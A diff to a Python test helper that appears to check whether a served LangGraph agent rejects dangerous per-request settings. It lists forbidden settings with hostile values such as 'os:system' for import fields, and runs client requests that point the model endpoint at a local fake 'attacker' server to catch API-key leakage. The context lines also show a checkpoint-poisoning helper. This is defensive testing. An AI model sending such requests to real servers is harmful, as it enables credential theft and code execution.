@@ -26,3 +26,47 @@ def poison_checkpoints(path: Path, command: str, channel: str = "question") -> i
     with sqlite3.connect(path) as conn:
         return conn.execute("UPDATE blobs SET type = 'msgpack+zlib', value = ? WHERE channel = ?",
                             (zlib.compress(call), channel)).rowcount
+
+
+# Per-request settings a client of the served graph must not choose (an endpoint, a credential, a model, a
+# path of each kind, code to import), each with the value a client would send: (setting, value or None for
+# a path under the client's folder)
+FORBIDDEN_REQUEST_SETTINGS = (("OPENAI_BASE_URL", None), ("OPENAI_API_KEY", "sk-client"), ("LLM_MODEL", "client-model"),
+                              ("TELEMETRY_PATH", None), ("LLM_CACHE_PATH", None), ("CHECKPOINT_PATH", None),
+                              ("PROBE_PATH", None), ("MODEL_CACHE_DIR", None), ("VECTOR_STORE", "os:system"),
+                              ("EXTENSIONS", ["os:system"]))
+
+
+def served_attacks(langgraph: list[str], folder: Path, env: dict[str, str], key: str, reply: str) -> dict[str, Any]:
+    """`langgraph dev` serving the agent on an openai model server (answering ``reply``) with ``key``, and the
+    requests of a client that wants the key, the server's files or a crash: each forbidden setting in
+    ``config.configurable`` (the URL one pointing at the client's own server, the paths under
+    ``folder/client``), a path in ``context``, an assistant made with the client's URL, a ``context``
+    section named ``llm``, flat ``context`` keys. What came back, what reached the client's server, what
+    was written under ``folder/client``, and the server's log."""
+    from agentic_rag.testing.fault_server import FaultServer
+    from agentic_rag.testing.records import record
+    from agentic_rag.testing.servers import graph_server, post
+
+    client = folder / "client"
+    question = {"question": record().query, "question_id": "srv-sec", "record": record().model_dump(mode="json")}
+    with FaultServer(reply=reply) as model, FaultServer(reply="stolen") as attacker:
+        served = {**env, "AGENTIC_RAG_LLM_BACKEND": "openai", "AGENTIC_RAG_OPENAI_BASE_URL": model.url,
+                  "AGENTIC_RAG_LLM_MODEL": "m", "AGENTIC_RAG_LLM_TIMEOUT_S": "5", "OPENAI_API_KEY": key}
+        with graph_server(langgraph, folder, served) as (port, log):
+            def run(**settings: Any) -> tuple[int, dict]:
+                return post(port, {"assistant_id": "agent", "input": question, **settings}, timeout=300)
+
+            replies = {f"config.configurable.{name}": run(config={"configurable": {
+                name: value if value is not None else attacker.url if name.endswith("URL") else str(client / name)}})
+                for name, value in FORBIDDEN_REQUEST_SETTINGS}
+            replies["context paths.TELEMETRY_PATH"] = run(context={"paths": {"TELEMETRY_PATH": str(client / "t.jsonl")}})
+            replies["assistant with OPENAI_BASE_URL"] = post(port, {"graph_id": "agent", "config": {"configurable": {
+                "OPENAI_BASE_URL": attacker.url}}}, path="/assistants")
+            replies["context flat MAX_ROUNDS"] = run(context={"MAX_ROUNDS": 1})
+            before = len(model.requests)
+            replies["context section llm"] = run(context={"llm": {"MAX_OUTPUT_TOKENS": 120}})
+            return {"replies": replies, "attacker_requests": list(attacker.requests),
+                    "model_requests_of_llm_section": len(model.requests) - before,
+                    "written": sorted(str(p) for p in client.rglob("*")) + ([str(client)] if client.exists() else []),
+                    "log": log.read_text(errors="replace")}
